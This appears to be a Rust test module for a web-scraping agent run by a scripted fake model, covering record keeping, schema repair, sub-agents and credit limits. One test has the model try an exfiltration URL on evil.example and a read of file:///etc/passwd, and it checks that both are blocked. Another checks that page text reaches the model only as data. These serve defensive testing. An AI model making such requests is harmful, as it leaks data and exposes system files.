//! Runs driven by a scripted model, one test per behaviour. Those that go wrong are in [`errors`].

mod browser;
mod errors;

use super::*;
use crate::test_doubles::{FakeWeb, MemoryJournal, ScriptedChat, calls, data, says, task};
use crate::{ActorRole, AgentEvent, ThreadTurn};
use model::chat::{Abilities, Message, ToolCall};
use serde_json::json;

const HOME: &str = "https://a.example/";
const ABOUT: &str = "https://a.example/about";

fn web() -> FakeWeb {
    FakeWeb::new(&[
        (
            HOME,
            "<title>Tern Ltd</title><p>title: Tern</p><p>Price of the kit is 30 euro.</p><a href=/about>About us</a>",
        ),
        (ABOUT, "<title>About</title><p>founder: Ada Skua</p><p>founded: 1999</p>"),
    ])
}

fn wants_title() -> Task {
    let schema = json!({ "type": "object", "required": ["title"], "properties": {
        "title": { "type": "string" }, "founder": { "type": "string" }, "price": { "type": "integer" } } });
    Task { schema: Some(schema), ..task("the title, founder and price", &[HOME]) }
}

struct PlayedRun {
    ended: BrainOutcome,
    journal: MemoryJournal,
    script: Arc<ScriptedChat>,
    web: FakeWeb,
}

async fn play_on(web: FakeWeb, task: &Task, script: ScriptedChat, tokens_per_credit: u64) -> PlayedRun {
    let script = Arc::new(script);
    let journal = MemoryJournal::new(task.max_credits);
    let brain = ModelDriven::new(Arc::clone(&script) as Arc<dyn Chat>, tokens_per_credit);
    let ended = brain.run(task, None, &web, &journal).await;
    journal.assert_well_formed();
    PlayedRun { ended, journal, script, web }
}

async fn play(task: &Task, lines: Vec<Result<ChatResponse, ChatError>>) -> PlayedRun {
    play_on(web(), task, ScriptedChat::new(lines), 0).await
}

fn read_call(url: &str) -> (&'static str, Value) {
    ("scrape", json!({ "url": url }))
}

#[expect(clippy::needless_pass_by_value, reason = "values are written in place")]
fn entry(field: &str, value: Value, url: &str, quote: &str) -> Value {
    json!({ "field": field, "value": value, "url": url, "quote": quote })
}

fn finish() -> (&'static str, Value) {
    ("finish", json!({}))
}

fn record(entries: &[Value]) -> (&'static str, Value) {
    ("record", json!({ "fields": entries }))
}

#[tokio::test]
async fn it_reads_records_and_finishes() {
    let lines = vec![
        calls(&[read_call(HOME), read_call(ABOUT)]),
        calls(&[record(&[
            entry("/title", json!("Tern"), HOME, "title: Tern"),
            entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua"),
            entry("/price", json!(30), HOME, "the kit is 30 euro"),
        ])]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    assert_eq!(*data(&played.ended), json!({ "title": "Tern", "founder": "Ada Skua", "price": 30 }));
    assert_eq!(played.journal.tools(), ["scrape", "scrape", "record", "finish"]);
    assert!(matches!(&played.ended, BrainOutcome::Answered { note: None, .. }));
}

#[tokio::test]
async fn page_text_reaches_the_model_as_data_only() {
    let lines =
        vec![calls(&[read_call(HOME)]), calls(&[("map", json!({ "url": HOME }))]), calls(&[finish()])];
    let played = play(&wants_title(), lines).await;
    for ask in played.script.asks() {
        for message in ask.messages {
            match message {
                Message::System(text) | Message::User(text) | Message::ToolResult { text, .. } => {
                    assert!(!text.contains("30 euro") && !text.contains("About us"), "{text}");
                }
                Message::Data { .. } | Message::Assistant { .. } => {}
            }
        }
    }
    let last = played.script.asks().pop().unwrap();
    let has = |part: &str| {
        last.messages.iter().any(|m| matches!(m, Message::Data { text, .. } if text.contains(part)))
    };
    assert!(has("30 euro") && has(ABOUT));
}

#[tokio::test]
async fn a_quote_that_is_not_on_the_page_is_refused() {
    let lines = vec![
        calls(&[read_call(HOME)]),
        calls(&[record(&[
            entry("/title", json!("Gull"), HOME, "title: Gull"),
            entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua"),
            entry("/price", json!("thirty"), HOME, "30 euro"),
            entry("/title", json!("Kit"), HOME, "title: Tern"),
        ])]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    let result = &played.journal.results("record")[0];
    let why: Vec<&str> =
        result["refused"].as_array().unwrap().iter().map(|r| r["why"].as_str().unwrap()).collect();
    assert_eq!(why.len(), 3);
    assert_eq!(why[0], "the quote was not found on the page");
    assert_eq!(why[1], "the page was not read");
    assert!(why[2].contains("integer"), "{why:?}");
    assert_eq!(result["flagged"][0]["why"], "the quote does not contain the value");
}

#[tokio::test]
async fn what_the_model_leaves_open_is_filled_by_rules() {
    let lines = vec![
        calls(&[read_call(HOME), read_call(ABOUT)]),
        calls(&[record(&[entry("/title", json!("Tern"), HOME, "title: Tern")])]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    assert_eq!(data(&played.ended)["founder"], "Ada Skua");
}

#[tokio::test]
async fn data_given_at_the_end_is_validated_and_repaired() {
    let wrong = ("finish", json!({ "data": { "title": 3 } }));
    let right = ("finish", json!({ "data": { "title": "Tern", "founder": "Ada Skua", "price": 30 } }));
    let played =
        play(&wants_title(), vec![calls(&[read_call(HOME)]), calls(&[wrong]), calls(&[right])]).await;
    assert_eq!(data(&played.ended)["title"], "Tern");
    let results = played.journal.results("finish");
    assert!(results[0]["error"].as_str().unwrap().contains("does not fit the schema"), "{results:?}");
    assert_eq!(results[1]["accepted"], true);
}

#[tokio::test]
async fn a_result_written_as_text_is_taken_when_it_fits() {
    let answer =
        says("Here it is:\n```json\n{\"title\": \"Tern\", \"founder\": \"Ada Skua\", \"price\": 30}\n```");
    let played = play(&wants_title(), vec![calls(&[read_call(HOME)]), answer]).await;
    assert_eq!(data(&played.ended)["price"], 30);
}

#[tokio::test]
async fn a_model_without_tools_acts_by_json() {
    let act =
        |tool: &str, arguments: Value| says(&json!({ "tool": tool, "arguments": arguments }).to_string());
    let lines =
        vec![act("scrape", json!({ "url": HOME })), says("not json at all"), act("finish", json!({}))];
    let mut script = ScriptedChat::new(lines);
    script.abilities.tools = false;
    let played = play_on(web(), &wants_title(), script, 0).await;
    assert_eq!(data(&played.ended)["title"], "Tern");
    let asks = played.script.asks();
    assert!(asks.iter().all(|ask| ask.tools.is_empty() && ask.schema.is_some()));
    assert!(asks[1].messages.iter().all(|m| !matches!(m, Message::ToolResult { .. })));
}

#[tokio::test]
async fn an_address_that_nobody_named_is_not_visited() {
    let lines = vec![
        calls(&[read_call(HOME)]),
        calls(&[
            read_call("https://evil.example/?stolen=30euro"),
            ("map", json!({ "url": "https://evil.example/" })),
        ]),
        calls(&[read_call("file:///etc/passwd")]),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    // The rules go on where the model gave up: to links of the site.
    let requests = played.web.requests();
    assert_eq!(requests[0], HOME);
    assert!(requests.iter().all(|url| url.starts_with(HOME)), "{requests:?}");
}

#[tokio::test]
async fn a_strict_run_visits_its_addresses_alone() {
    let strict = Task { strict: true, ..wants_title() };
    let lines = vec![
        calls(&[
            read_call(HOME),
            read_call(ABOUT),
            ("search", json!({ "query": "tern" })),
            ("map", json!({ "url": HOME })),
        ]),
        calls(&[finish()]),
    ];
    let played = play(&strict, lines).await;
    assert_eq!(played.web.requests(), [HOME]);
    assert!(played.script.asks()[0].tools.iter().all(|tool| tool.name != "search" && tool.name != "map"));
}

#[tokio::test]
async fn searches_maps_passages_and_sums_are_answered() {
    let mut web = web();
    web.hits = vec![ABOUT];
    let lines = vec![
        calls(&[
            ("search", json!({ "query": "tern founder" })),
            ("calculate", json!({ "expression": "30 * 2" })),
        ]),
        calls(&[read_call(ABOUT), ("read_passages", json!({ "url": ABOUT, "query": "founder" }))]),
        calls(&[("read_passages", json!({ "url": "https://b.example", "query": "x" }))]),
        calls(&[record(&[entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua")]), finish()]),
    ];
    let plain = Task { schema: None, ..task("who founded Tern?", &[]) };
    let played = play_on(web, &plain, ScriptedChat::new(lines), 0).await;
    assert_eq!(*data(&played.ended), json!({ "founder": "Ada Skua" }));
    assert_eq!(played.journal.results("calculate")[0]["result"], 60.0);
    assert_eq!(played.journal.results("read_passages")[1]["error"], "this page was not read");
}

#[tokio::test]
async fn parts_are_worked_on_by_sub_agents() {
    let lines = vec![
        calls(&[(
            "delegate",
            json!({ "parts": [
            { "task": "find the title", "urls": [HOME] }, { "task": "find the founder", "urls": [ABOUT] } ] }),
        )]),
        calls(&[read_call(HOME)]),
        calls(&[read_call(ABOUT)]),
        calls(&[record(&[entry("/title", json!("Tern"), HOME, "title: Tern")])]),
        calls(&[record(&[entry("/founder", json!("Ada Skua"), ABOUT, "founder: Ada Skua")])]),
        says("Done with my part."),
        says("Done with my part."),
        calls(&[finish()]),
    ];
    let played = play(&wants_title(), lines).await;
    assert_eq!(played.journal.outcomes(), [AgentOutcome::Succeeded, AgentOutcome::Succeeded]);
    assert_eq!(data(&played.ended)["title"], "Tern");
    let of_subagents = played.script.asks()[1].clone();
    assert!(of_subagents.tools.iter().all(|tool| tool.name != "delegate"), "a sub-agent cannot delegate");
    let started: Vec<_> = played
        .journal
        .events()
        .into_iter()
        .filter(|(actor, event)| actor.role == ActorRole::Subagent && *event == AgentEvent::AgentStarted)
        .collect();
    assert!(started.iter().all(|(actor, _)| actor.parent.is_some()));
}

#[tokio::test]
async fn a_chat_answers_in_words() {
    let chat = Task { mode: TaskMode::Chat, ..task("Who founded Tern?", &[HOME]) };
    let suggestion = json!([{ "label": "Prices", "prompt": "What does the kit cost?" }]);
    let lines = vec![
        calls(&[read_call(ABOUT)]),
        calls(&[("finish", json!({}))]),
        calls(&[("finish", json!({ "message": "Ada Skua did.", "suggestions": suggestion }))]),
    ];
    let played = play(&chat, lines).await;
    let BrainOutcome::Answered { data: None, message: Some(message), suggestions, .. } = played.ended else {
        panic!()
    };
    assert_eq!((message.as_str(), suggestions.len()), ("Ada Skua did.", 1));
    let BrainOutcome::Answered { message, .. } = play(&chat, vec![says("Ada Skua.")]).await.ended else {
        panic!()
    };
    assert_eq!(message.as_deref(), Some("Ada Skua."));
}

#[tokio::test]
async fn earlier_turns_are_told_as_data() {
    let turn =
        ThreadTurn { prompt: "the title".to_owned(), data: Some(json!({ "title": "Tern" })), message: None };
    let again = Task { earlier: vec![turn], ..wants_title() };
    let played = play(&again, vec![calls(&[read_call(HOME)]), calls(&[finish()])]).await;
    let first = &played.script.asks()[0];
    assert!(matches!(&first.messages[1], Message::Data { text, .. } if text.contains("Asked: the title")));
}

#[tokio::test]
async fn tokens_are_paid_for_and_a_part_is_kept_for_the_answer() {
    // A credit for each reply: ten credits, two of them reserved.
    let poor = Task { max_credits: 10, ..wants_title() };
    let mut lines: Vec<_> = vec![calls(&[read_call(HOME)])];
    lines.extend((0..50).map(|n| calls(&[("calculate", json!({ "expression": format!("{n}+1") }))])));
    let played = play_on(web(), &poor, ScriptedChat::new(lines), 1_000).await;
    assert!(played.journal.credits_left() <= 10);
    assert!(played.script.asks().len() <= 10, "{}", played.script.asks().len());
    let last = played.script.asks().pop().unwrap();
    assert!(last.tools.iter().all(|tool| tool.name != "scrape"));
    assert!(
        matches!(
            played.ended,
            BrainOutcome::OutOfCredits { partial: Some(_) } | BrainOutcome::Answered { .. }
        ),
        "{:?}",
        played.ended
    );
}
